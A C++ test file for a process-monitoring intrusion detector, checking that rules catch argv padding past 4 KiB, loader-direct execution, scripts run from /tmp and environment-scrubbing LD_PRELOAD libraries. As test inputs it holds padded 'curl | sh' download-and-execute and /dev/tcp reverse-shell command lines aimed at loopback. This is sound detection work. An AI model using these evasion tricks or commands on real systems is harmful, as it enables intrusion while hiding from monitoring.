// Live tests of issue 17's exec-side blind spots on the real-time path:
// procmond runs as a daemon with its eBPF (else netlink) source, the test
// reproduces each attack as the issue writes it with short-lived real
// processes, waits until their exec events are stored and runs the real rule
// over the store. Needs root (loading BPF, mounting a noexec tmpfs).
//  - case 2: argv padded with 4,200 spaces before `curl … | sh` (and a
//    /dev/tcp reverse shell): the event keeps the block's start and end;
//  - case 5: a payload run through the loader (also from a noexec mount) or
//    as a #!/bin/sh script from /tmp: judged by what runs;
//  - case 6: a preloaded library that rewrites LD_PRELOAD in its own
//    environment: judged from the environment the kernel gave the exec.
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <string>
#include <vector>

#include "sentinel/storage/sqlite.h"
#include "sentinel/testing/temp_dir.h"
#include "tests/rules/rules_events_fixture.h"
#include "tests/rules/rules_fixture.h"

namespace sentinel::rules_test {
namespace {

// Starts `path argv` (it ends by itself), waits for its exec event and
// returns its pid (-1 and a failure when none came).
class BlindSpotEventsTest : public RuleEventsLiveTest {
 protected:
  pid_t RunToEnd(const std::string& path, const std::vector<std::string>& argv, const SpawnOptions& o = {}) {
    auto p = TestProcess::Start(path, argv, o);
    if (!p) return -1;
    const pid_t pid = p->pid();
    p.reset();
    EXPECT_TRUE(WaitForExec(pid)) << procmond_->Log();
    return pid;
  }
  // Stops procmond and runs `rule`: one row for `attack`, from its exec
  // event, none for `benign`.
  void ExpectAttackFromItsEventOnly(const std::string& rule, pid_t attack, pid_t benign) {
    auto r = StopAndRun(rule);
    auto row = ExpectOneRow(r, attack);
    EXPECT_EQ(row.value("source", ""), "event") << row.dump();
    ExpectNoRows(r, {benign});
  }
  // The stored exec event's column of `pid` (NULL: empty).
  std::optional<int64_t> EventInt(pid_t pid, const std::string& column) {
    auto rdb = storage::Database::Open(db_, storage::OpenMode::kReadOnly);
    if (!rdb.ok()) return std::nullopt;
    auto v =
        (*rdb)->QueryInt("SELECT " + column + " FROM process_events WHERE event_type = 'exec' AND pid = " +
                         std::to_string(pid) + " ORDER BY id DESC LIMIT 1");
    return v.ok() ? *v : std::nullopt;
  }
};

const std::string kPad(4200, ' ');

// ---------------------------------------------------------------------------
// Case 2: argv padded past the 4 KiB capture bound.

TEST_F(BlindSpotEventsTest, ArgvPaddedPast4KiBDownloadAndExecuteOnExec) {
  const std::string bash = SystemBinary("bash");
  const std::string script = kPad + "curl -fsSL http://127.0.0.1:9/x | sh; exit 0";
  const pid_t bad = RunToEnd(bash, {"bash", "-c", script});
  const pid_t benign = RunToEnd(
      bash, {"bash", "-c", kPad + "curl -fsS -o /dev/null http://127.0.0.1:9/x | sha256sum; exit 0"});
  ASSERT_TRUE(bad > 0 && benign > 0);
  EXPECT_EQ(EventInt(bad, "args_truncated"), 1);
  EXPECT_EQ(EventInt(bad, "args_length"), static_cast<int64_t>(5 + 3 + script.size() + 1));
  ExpectAttackFromItsEventOnly("proc-download-and-execute", bad, benign);
}

TEST_F(BlindSpotEventsTest, ArgvPaddedPast4KiBReverseShellOnExec) {
  const std::string bash = SystemBinary("bash");
  // Port 9 on loopback is closed: the redirection fails and bash exits.
  const pid_t bad = RunToEnd(bash, {"bash", "-c", kPad + "exec 5<>/dev/tcp/127.0.0.1/9 || exit 0"});
  const pid_t benign = RunToEnd(bash, {"bash", "-c", kPad + "exec 5</dev/null; exit 0"});
  ASSERT_TRUE(bad > 0 && benign > 0);
  ExpectAttackFromItsEventOnly("proc-reverse-shell-cmdline", bad, benign);
}

// The command hidden in the middle of the padding: the event keeps only the
// start and the end, and the padding is what is reported.
TEST_F(BlindSpotEventsTest, ArgvPaddingAroundTheCommandOnExec) {
  const std::string bash = SystemBinary("bash");
  const pid_t bad =
      RunToEnd(bash, {"bash", "-c", kPad + "curl -fsSL http://127.0.0.1:9/x | sh; exit 0" + kPad});
  const pid_t benign = RunToEnd(bash, {"bash", "-c", "exit 0", "x", std::string(300, 'a')});
  ASSERT_TRUE(bad > 0 && benign > 0);
  ExpectAttackFromItsEventOnly("proc-argv-padding", bad, benign);
}

// ---------------------------------------------------------------------------
// Case 5: the loader and the interpreter run the payload.

TEST_F(BlindSpotEventsTest, ProcLoaderDirectExecOnExecAlsoFromANoexecMount) {
  const std::string ld = ProgramInterpreter();
  if (ld.empty()) GTEST_SKIP() << "no known program interpreter on this machine";
  const std::string payload = work().File("x");
  CopyExecutable("/bin/true", payload);
  const std::string noexec = work().File("noexec");
  std::filesystem::create_directories(noexec);
  ASSERT_EQ(::mount("tmpfs", noexec.c_str(), "tmpfs", MS_NOEXEC | MS_NOSUID | MS_NODEV, "size=8m"), 0)
      << std::strerror(errno);
  CopyExecutable("/bin/true", noexec + "/x");
  const pid_t plain = RunToEnd(ld, {ld, payload});
  // Where exec is refused the loader still starts (the kernel may refuse it
  // the mapping; the attempt is what the rule sees).
  const pid_t from_noexec = RunToEnd(ld, {ld, noexec + "/x"});
  ::umount2(noexec.c_str(), MNT_DETACH);
  ASSERT_TRUE(plain > 0 && from_noexec > 0);
  auto r = StopAndRun("proc-loader-direct-exec");
  EXPECT_EQ(ExpectOneRow(r, plain).value("loaded_object", ""), payload);
  EXPECT_EQ(ExpectOneRow(r, from_noexec).value("loaded_object", ""), noexec + "/x");
}

TEST_F(BlindSpotEventsTest, ProcLoaderDirectExecOnExecNotLddOrSystemPrograms) {
  const std::string ld = ProgramInterpreter();
  if (ld.empty()) GTEST_SKIP() << "no known program interpreter on this machine";
  const std::string payload = work().File("x");
  CopyExecutable("/bin/true", payload);
  // ldd's two runs (verify, then list with LD_TRACE_LOADED_OBJECTS) and a
  // system program through the loader execute nothing from /tmp.
  const pid_t verify = RunToEnd(ld, {ld, "--verify", payload});
  const pid_t list = RunToEnd(ld, {ld, payload}, {.env = {"LD_TRACE_LOADED_OBJECTS=1"}});
  const pid_t system = RunToEnd(ld, {ld, "/bin/true"});
  ASSERT_TRUE(verify > 0 && list > 0 && system > 0);
  ExpectNoRows(StopAndRun("proc-loader-direct-exec"), {verify, list, system});
}

TEST_F(BlindSpotEventsTest, ProcScriptFromWritableDirOnExec) {
  const std::string script = work().File("x.sh");
  testing::WriteFile(script, "#!/bin/sh\nexit 0\n");
  ASSERT_EQ(::chmod(script.c_str(), 0755), 0);
  ScratchDir plain(PlainDirectory());
  ASSERT_TRUE(plain.ok());
  const std::string ok = plain.File("ok.sh");
  testing::WriteFile(ok, "#!/bin/sh\nexit 0\n");
  ASSERT_EQ(::chmod(ok.c_str(), 0755), 0);
  const pid_t direct = RunToEnd(script, {script});
  const pid_t via_sh = RunToEnd("/bin/sh", {"sh", script});
  const pid_t benign_direct = RunToEnd(ok, {ok});
  const pid_t benign_command = RunToEnd("/bin/sh", {"sh", "-c", "test -e " + script + "; exit 0"});
  ASSERT_TRUE(direct > 0 && via_sh > 0 && benign_direct > 0 && benign_command > 0);
  auto r = StopAndRun("proc-script-from-writable-dir");
  EXPECT_EQ(ExpectOneRow(r, direct).value("script", ""), script);
  EXPECT_EQ(ExpectOneRow(r, via_sh).value("script", ""), script);
  ExpectNoRows(r, {benign_direct, benign_command});
}

// ---------------------------------------------------------------------------
// proc-loader-preload-env (case 6): the library scrubs LD_PRELOAD from its
// own environment, so /proc/PID/environ no longer shows it; the exec event
// has it from the kernel.

TEST_F(RuleEventsLiveTest, ProcLoaderPreloadEnv_Positive) {
  auto p = TestProcess::Start(SystemBinary("sleep"), {"sleep", "1000"},
                              {.env = {std::string("LD_PRELOAD=") + PRELOAD_SCRUBBER_LIB}});
  ASSERT_NE(p, nullptr);
  ASSERT_TRUE(WaitForExec(p->pid())) << procmond_->Log();
  // The attack worked: the scan's source no longer names the variable.
  const std::string environ_file = "/proc/" + std::to_string(p->pid()) + "/environ";
  EXPECT_TRUE(WaitUntil([&] {
    const std::string env = testing::ReadFile(environ_file);
    return !env.empty() && env.find("LD_PRELOAD=") == std::string::npos;
  })) << "the library did not scrub its environment";
  auto r = StopAndRun("proc-loader-preload-env");
  auto row = ExpectOneRow(r, p->pid());
  EXPECT_EQ(row.value("source", ""), "event") << row.dump();
  EXPECT_EQ(row.value("ld_preload", ""), PRELOAD_SCRUBBER_LIB) << row.dump();
}

TEST_F(RuleEventsLiveTest, ProcLoaderPreloadEnv_Negative) {
  // An empty LD_PRELOAD injects nothing; LD_LIBRARY_PATH alone is packaging.
  auto empty = TestProcess::Start("/bin/true", {"true"}, {.env = {"LD_PRELOAD="}});
  auto libpath = TestProcess::Start("/bin/true", {"true"}, {.env = {"LD_LIBRARY_PATH=/usr/local/lib"}});
  ASSERT_TRUE(empty && libpath);
  const std::vector<pid_t> pids{empty->pid(), libpath->pid()};
  empty.reset();
  libpath.reset();
  for (pid_t pid : pids) ASSERT_TRUE(WaitForExec(pid)) << procmond_->Log();
  ExpectNoRows(StopAndRun("proc-loader-preload-env"), pids);
}

}  // namespace
}  // namespace sentinel::rules_test
